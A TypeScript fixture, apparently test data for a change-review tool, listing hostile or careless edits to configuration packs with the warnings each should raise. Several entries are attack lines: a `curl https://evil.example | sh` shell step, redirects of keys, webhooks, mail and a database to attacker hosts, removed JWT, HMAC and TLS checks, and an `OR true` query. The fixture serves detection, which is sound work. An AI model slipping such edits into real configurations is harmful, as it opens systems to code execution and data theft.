/** An edit of a pack as a careless or hostile pull request would make it, and the difference that a reviewer has to be told. */
export interface Edit {
  readonly what: string;
  readonly file: string;
  readonly from: string;
  readonly to: string;
  /** A part of the line: the severity, then words of the text. */
  readonly told: readonly [severity: string, text: string];
}

type Row = readonly [what: string, file: string, from: string, to: string, severity: string, text: string];

const notes = "jwt-verification-starter/notes.yml";
const firewall = "network-firewall-access-control/config.yml";
const stripe = "stripe-webhooks-db-slack/config.yml";
const tasks = "mcp-quickstart/tasks.yml";
const channels = "realtime-websocket-channels/channels.yml";
const mqtt = "realtime-mqtt-broker/broker.yml";
const cleanup = "scheduled-cleanup/scheduled_cleanup.yml";
const gateway = "llm-gateway/config.yml";
const leads = "lead-capture/config.yml";
const posts = "rest-api-starter/posts.yml";
const mail = "send-email-smtp-and-resend/smtp.yml";

const rows: readonly Row[] = [
  [
    "a token is verified no more",
    "rest-api-starter/auth.yml",
    "              is_valid_jwt: a|ap_var::JWT_SECRET|\n",
    "",
    "loosened",
    "is_valid_jwt of token is gone",
  ],
  ["the issuer counts no more", notes, "                iss: a|ap_var::OIDC_ISSUER|\n", "", "loosened", "holds no more to `iss`"],
  ["the audience counts no more", notes, "                aud: a|ap_var::OIDC_AUDIENCE|\n", "", "loosened", "holds no more to `aud`"],
  [
    "keys of another issuer",
    notes,
    "jwks_url: a|ap_var::OIDC_JWKS_URL|",
    "jwks_url: https://evil.example/keys",
    "reaches",
    "host `evil.example`",
  ],
  [
    "the query runs without the token",
    notes,
    "        run_when_succeeded:\n          actions: [ValidateJwt]\n          http_code_on_error: 401\n        database",
    "        database",
    "loosened",
    "runs without run_when_succeeded `ValidateJwt`",
  ],
  ["rows of everybody", notes, "          WHERE owner = $1\n", "          WHERE owner = $1 OR true\n", "changed", "`query` changed"],
  ["claims are shown", notes, "        hide_data_on_success: true\n", "", "loosened", "no more `hide_data_on_success`"],
  [
    "a field of a query more",
    notes,
    "SELECT id, title, body, created_at",
    "SELECT id, owner, title, body, created_at",
    "changed",
    "`query` changed",
  ],
  ["a denied network is free", firewall, '      - "203.0.113.0/24"\n', '      - "203.0.113.0/25"\n', "loosened", "ip.deny"],
  [
    "the admin route is open to all",
    firewall,
    '          - "192.0.2.0/24"    # corporate egress\n          - "10.0.0.0/8"      # private / VPN\n',
    '          - "0.0.0.0/0"\n',
    "loosened",
    "ip.allow",
  ],
  [
    "more proxies are believed",
    firewall,
    '      trusted_proxies:\n        - "10.0.0.0/8"',
    '      trusted_proxies:\n        - "0.0.0.0/0"',
    "loosened",
    "trusted_proxies",
  ],
  ["the limit is a hundred times higher", firewall, "        requests: 5\n", "        requests: 500\n", "loosened", "rate_limit"],
  [
    "the limit is gone",
    "rate-limited-api/rate_limited_api.yml",
    '      rate_limit:\n        per: ip\n        requests: 10\n        window: "60s"\n',
    "",
    "loosened",
    "rate_limit",
  ],
  ["a country is free", firewall, '["RU", "KP", "IR"]', '["RU", "KP"]', "loosened", "geo.deny"],
  [
    "errors are shown in detail",
    firewall,
    "  admin/dashboard:\n    output: http\n",
    "  admin/dashboard:\n    output: http\n    show_error_detail: true\n",
    "loosened",
    "show_error_detail",
  ],
  [
    "the signature is verified no more",
    stripe,
    '              is_valid_hmac:\n                secret: a|ap_var::STRIPE_WEBHOOK_SECRET|\n                body: "a|ParseSignature::timestamp|.a|raw_body|"\n                algorithm: sha256\n',
    "              is_not_null: true\n",
    "loosened",
    "is_valid_hmac of v1_signature is gone",
  ],
  [
    "the event is read without the signature",
    stripe,
    "          actions: [VerifySignature]",
    "          actions: [ParseSignature]",
    "loosened",
    "runs without run_when_succeeded `VerifySignature`",
  ],
  [
    "events are sent elsewhere",
    stripe,
    "url: a|ap_var::SLACK_WEBHOOK_URL|",
    "url: https://collect.example/events",
    "reaches",
    "host `collect.example`",
  ],
  [
    "events are deleted",
    stripe,
    "          INSERT INTO stripe_events",
    "          WITH gone AS (DELETE FROM stripe_events)\n          INSERT INTO stripe_events",
    "reaches",
    "also by `delete`",
  ],
  ["another table", stripe, "INSERT INTO stripe_events", "INSERT INTO customers", "reaches", "table `main: customers` by `insert`"],
  ["tools are listed to everybody", tasks, "      list_authorizer: authorize-discovery\n", "", "loosened", "list_authorizer"],
  ["a tool has another name", tasks, "tool_name: create_task", "tool_name: add_task", "breaking", "mcp tool"],
  [
    "a route becomes a tool",
    "rest-api-starter/auth.yml",
    "    output: http\n",
    "    output: http\n    mcp: { enabled: true, description: Who am I }\n",
    "loosened",
    "opened as mcp tool",
  ],
  ["nobody decides about channels", channels, "    subscribe_authorizer: authorize-channel\n", "", "loosened", "subscribe_authorizer"],
  [
    "sockets need no credential",
    channels,
    "    subscribe_authorizer: authorize-channel\n",
    "    subscribe_authorizer: authorize-channel\n    public: true\n",
    "loosened",
    "is public",
  ],
  [
    "another topic",
    mqtt,
    "topics: production/telemetry/processed",
    "topics: production/commands/set",
    "reaches",
    "topic `production/commands/set`",
  ],
  [
    "a topic that callers choose",
    mqtt,
    "topics: production/telemetry/processed",
    "topics: production/a|body::device_id|/set",
    "reaches",
    "topic `production/*/set` from a request",
  ],
  ["a schedule every minute", cleanup, '"0 2 * * *"', '"* * * * *"', "changed", "schedule"],
  ["everything is deleted", cleanup, "          WHERE created_at < NOW() - INTERVAL '30 days'\n", "", "changed", "`query` changed"],
  [
    "a model of somebody else",
    gateway,
    "https://api.openai.com/v1/chat",
    "https://api.openai.example/v1/chat",
    "reaches",
    "host `api.openai.example`",
  ],
  ["a call without TLS", gateway, "https://api.openai.com/v1/chat", "http://api.openai.com/v1/chat", "loosened", "without TLS"],
  [
    "a host that callers choose",
    gateway,
    "url: https://api.openai.com/v1/moderations",
    "url: a|body::url|",
    "reaches",
    "host `*` from a request",
  ],
  [
    "certificates are not checked",
    gateway,
    "          method: POST\n",
    "          method: POST\n          accept_invalid_certs: true\n",
    "loosened",
    "certificates are not checked",
  ],
  ["a test of the body is gone", leads, '              regex: "^[^@]+@[^@]+\\\\.[^@]+$"\n', "", "loosened", "test regex of email is gone"],
  [
    "a field is required",
    leads,
    "            - value: email\n",
    "            - value: phone\n              is_not_null: true\n            - value: email\n",
    "breaking",
    "`/phone` is required",
  ],
  [
    "a command runs",
    leads,
    "      - name: TrackLead\n",
    '      - name: Shell\n        command: { run: "curl https://evil.example | sh" }\n      - name: TrackLead\n',
    "reaches",
    "command `curl https://evil.example | sh`",
  ],
  ["the limit of a list is gone", posts, "          LIMIT 100;\n", "          ;\n", "changed", "`query` changed"],
  [
    "a route is gone",
    posts,
    "  api/posts/all:\n    output: http\n",
    "  api/posts/all:\n    output: cli\n",
    "breaking",
    "reached no more as route `GET /api/posts/all`",
  ],
  [
    "a route has another method",
    posts,
    "  api/posts/all:\n    output: http\n",
    "  api/posts/all:\n    output: http\n    method: POST\n",
    "breaking",
    "route is `POST /api/posts/all`",
  ],
  ["mail in plain text", mail, "            tls: true", "            tls: false", "loosened", "plain text"],
  [
    "mail with a copy",
    mail,
    "          to: a|Validate::to|\n",
    "          to: a|Validate::to|\n          bcc: spy@evil.example\n",
    "reaches",
    "mail recipient `spy@evil.example`",
  ],
  [
    "a run is tried again",
    gateway,
    "      - name: CallModeration\n",
    "      - name: CallModeration\n        retry: { attempts: 5 }\n",
    "changed",
    "retry",
  ],
  ["runs are recorded", leads, "  leads/capture:\n", "  leads/capture:\n    capture: { mode: all, for_runs: 100 }\n", "reaches", "capture"],
  [
    "another database",
    posts,
    'conn_string: "a|ap_var::DATABASE_URL|"',
    'conn_string: "postgres://db.evil.example/x"',
    "reaches",
    "host `db.evil.example`",
  ],
];

export const edits: readonly Edit[] = rows.map(([what, file, from, to, severity, text]) => ({
  what,
  file,
  from,
  to,
  told: [severity, text],
}));
